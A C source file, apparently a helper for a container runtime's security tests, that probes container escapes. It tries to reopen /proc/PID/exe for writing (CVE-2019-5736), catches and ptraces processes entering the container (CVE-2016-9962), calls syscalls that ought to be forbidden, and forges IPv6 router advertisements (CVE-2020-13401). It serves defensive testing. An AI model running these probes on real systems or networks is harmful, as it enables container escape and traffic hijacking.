/* What an attacker does inside a container, where a shell is too slow or cannot. Each mode prints what it found; what
 * it may find is the tests' business.
 *
 *     attacker exe            tries to open every /proc/PID/exe for writing, also after the program has ended
 *     attacker peek DEV INO   looks into each new process while it still is the program of that inode
 *     attacker fds            lists its own descriptors
 *     attacker calls          makes system calls that no container should be allowed, and prints their errors
 *     attacker router LINK    announces itself on the link as everybody's router for IPv6
 *
 * The first two end when /tmp/stop is there. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define STOP "/tmp/stop"

static int stopped(void) { return access(STOP, F_OK) == 0; }

/* CVE-2019-5736: a descriptor of the program, got while it runs, is opened for writing once it no longer does. */
static int exe(void) {
  static int held[256];
  static struct stat known[256];
  static int written[256];
  int count = 0;
  struct stat own;
  stat("/proc/self/exe", &own);
  do {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      char path[300];
      struct stat st;
      int fd, i;
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0) continue;
      fstat(fd, &st);
      for (i = 0; i < count && (known[i].st_ino != st.st_ino || known[i].st_dev != st.st_dev); i++) continue;
      if (i < count || count == 256 || (st.st_ino == own.st_ino && st.st_dev == own.st_dev)) {
        close(fd);
        continue;
      }
      known[count] = st;
      held[count++] = fd;
      struct statvfs mount;
      fstatvfs(fd, &mount);
      printf("seen %llu:%llu %s\n", (unsigned long long)st.st_dev, (unsigned long long)st.st_ino,
             mount.f_flag & ST_RDONLY ? "ro" : "rw");
    }
    closedir(proc);
    for (int i = 0; i < count; i++) {
      char path[64];
      int fd;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      if (written[i] || (fd = open(path, O_WRONLY | O_CLOEXEC)) < 0) continue;
      close(fd);
      written[i] = 1;
      printf("writable %llu:%llu\n", (unsigned long long)known[i].st_dev, (unsigned long long)known[i].st_ino);
    }
    fflush(stdout);
  } while (!stopped());
  puts("done");
  return 0;
}

static void list(const char *directory) {
  DIR *fds = opendir(directory);
  if (!fds) return;
  for (struct dirent *entry; (entry = readdir(fds));) {
    char link[4096];
    ssize_t length;
    if (entry->d_name[0] == '.') continue;
    if (!strcmp(directory, "/proc/self/fd") && atoi(entry->d_name) == dirfd(fds)) continue;
    length = readlinkat(dirfd(fds), entry->d_name, link, sizeof link - 1);
    if (length < 0) continue;
    link[length] = 0;
    printf("%s %s\n", entry->d_name, link);
  }
  closedir(fds);
}

/* CVE-2016-9962: a process on its way into the container still holds what is the host's. */
static int peek(unsigned long long device, unsigned long long inode) {
  int next = getpid() + 1;
  unsigned long long looks = 0;
  puts("ready");
  fflush(stdout);
  for (;;) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", next);
    for (;;) {
      if (++looks % 4096 == 0 && stopped()) {
        puts("done");
        return 0;
      }
      if (stat(path, &st) < 0) {
        if (errno == EACCES || errno == EPERM) continue;
        if (kill(next, 0) == 0) continue;
        /* Not there yet, or gone before we came. */
        if (kill(next + 1, 0) == 0) break;
        continue;
      }
      if (st.st_dev == device && st.st_ino == inode) {
        snprintf(path, sizeof path, "/proc/%d/fd", next);
        printf("caught %d\n", next);
        list(path);
        fflush(stdout);
        /* By a process that ends and so lets go: whoever is traced stays until it is waited for. */
        pid_t tracer = fork();
        if (tracer == 0) {
          if (ptrace(PTRACE_SEIZE, next, 0, 0) == 0) dprintf(1, "traced %d\n", next);
          _exit(0);
        }
        waitpid(tracer, 0, 0);
        if (tracer > next) next = tracer;
      }
      break;
    }
    next++;
  }
}

static void tell(const char *name, long result) { printf("%s %d\n", name, result < 0 ? errno : 0); }

static int calls(void) {
  tell("socket-alg", socket(38, SOCK_SEQPACKET, 0));
  tell("socket-vsock", socket(40, SOCK_STREAM, 0));
  tell("socket-unix", socket(AF_UNIX, SOCK_STREAM, 0));
  tell("clone3", syscall(SYS_clone3, 0, 0));
  tell("unshare-user", unshare(CLONE_NEWUSER));
  tell("unshare-mount", unshare(CLONE_NEWNS));
  {
    long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    tell("clone-user", child);
  }
  mkdir("/tmp/cgroup", 0755);
  tell("mount-cgroup", mount("cgroup", "/tmp/cgroup", "cgroup", 0, "memory"));
  tell("mount-tmpfs", mount("tmpfs", "/tmp/cgroup", "tmpfs", 0, ""));
  tell("umount", umount2("/proc/kcore", MNT_DETACH));
  tell("setns", syscall(SYS_setns, -1, 0));
  tell("keyctl", syscall(SYS_keyctl, 0, -3, 0));
  tell("add_key", syscall(SYS_add_key, "user", "x", "x", 1, -3));
  tell("bpf", syscall(SYS_bpf, 0, 0, 0));
  tell("perf_event_open", syscall(SYS_perf_event_open, 0, 0, -1, -1, 0));
  tell("userfaultfd", syscall(SYS_userfaultfd, 1));
  tell("io_uring_setup", syscall(SYS_io_uring_setup, 1, 0));
  tell("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, 0, 0));
  tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  tell("open_tree", syscall(SYS_open_tree, -100, "/", 1));
  tell("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
  tell("mount_setattr", syscall(SYS_mount_setattr, -1, "", 0, 0, 0));
  tell("finit_module", syscall(SYS_finit_module, -1, "", 0));
  tell("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
  tell("personality", syscall(SYS_personality, 0x0040000));
  return 0;
}

static unsigned sum(const unsigned char *bytes, int length, unsigned before) {
  for (int i = 0; i < length; i += 2) before += bytes[i] << 8 | bytes[i + 1];
  return before;
}

/* CVE-2020-13401: a router advertisement (RFC 4861 section 4.2) with a prefix, by hand: the link need not have IPv6. */
static int router(const char *name) {
  unsigned char frame[14 + 40 + 16 + 32] = {0x33, 0x33, 0, 0, 0, 1};
  unsigned char *ip = frame + 14, *message = ip + 40, *prefix = message + 16;
  struct ifreq request = {0};
  struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_halen = 6};
  int link = socket(AF_PACKET, SOCK_RAW, htons(ETHERTYPE_IPV6));
  int sent = 0;
  unsigned check;
  strncpy(request.ifr_name, name, IFNAMSIZ - 1);
  if (link < 0 || ioctl(link, SIOCGIFINDEX, &request) < 0) return perror(name), 1;
  where.sll_ifindex = request.ifr_ifindex;
  if (ioctl(link, SIOCGIFHWADDR, &request) < 0) return perror(name), 1;
  memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
  memcpy(where.sll_addr, frame, 6);
  frame[12] = 0x86, frame[13] = 0xdd;
  ip[0] = 0x60, ip[5] = 48, ip[6] = 58, ip[7] = 255;
  memcpy(ip + 8, (unsigned char[16]){0xfe, 0x80, [15] = 0xbd}, 16);
  memcpy(ip + 24, (unsigned char[16]){0xff, 0x02, [15] = 1}, 16);
  message[0] = 134, message[4] = 64, message[6] = 0x07, message[7] = 0x08;
  prefix[0] = 3, prefix[1] = 4, prefix[2] = 64, prefix[3] = 0xc0, prefix[6] = 0xff, prefix[10] = 0xff;
  memcpy(prefix + 16, (unsigned char[16]){0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad}, 16);
  check = sum(message, 48, sum(ip + 8, 32, 48 + 58));
  while (check >> 16) check = (check & 0xffff) + (check >> 16);
  message[2] = ~check >> 8, message[3] = ~check;
  for (int i = 0; i < 20; i++, usleep(50000))
    sent += sendto(link, frame, sizeof frame, 0, (struct sockaddr *)&where, sizeof where) == sizeof frame;
  printf("sent %d\n", sent);
  return 0;
}

int main(int count, char **arguments) {
  const char *mode = count > 1 ? arguments[1] : "";
  if (!strcmp(mode, "exe")) return exe();
  if (!strcmp(mode, "peek") && count == 4)
    return peek(strtoull(arguments[2], 0, 10), strtoull(arguments[3], 0, 10));
  if (!strcmp(mode, "fds")) return list("/proc/self/fd"), 0;
  if (!strcmp(mode, "calls")) return calls();
  if (!strcmp(mode, "router") && count == 3) return router(arguments[2]);
  fputs("usage: attacker exe | peek DEV INO | fds | calls | router LINK\n", stderr);
  return 2;
}
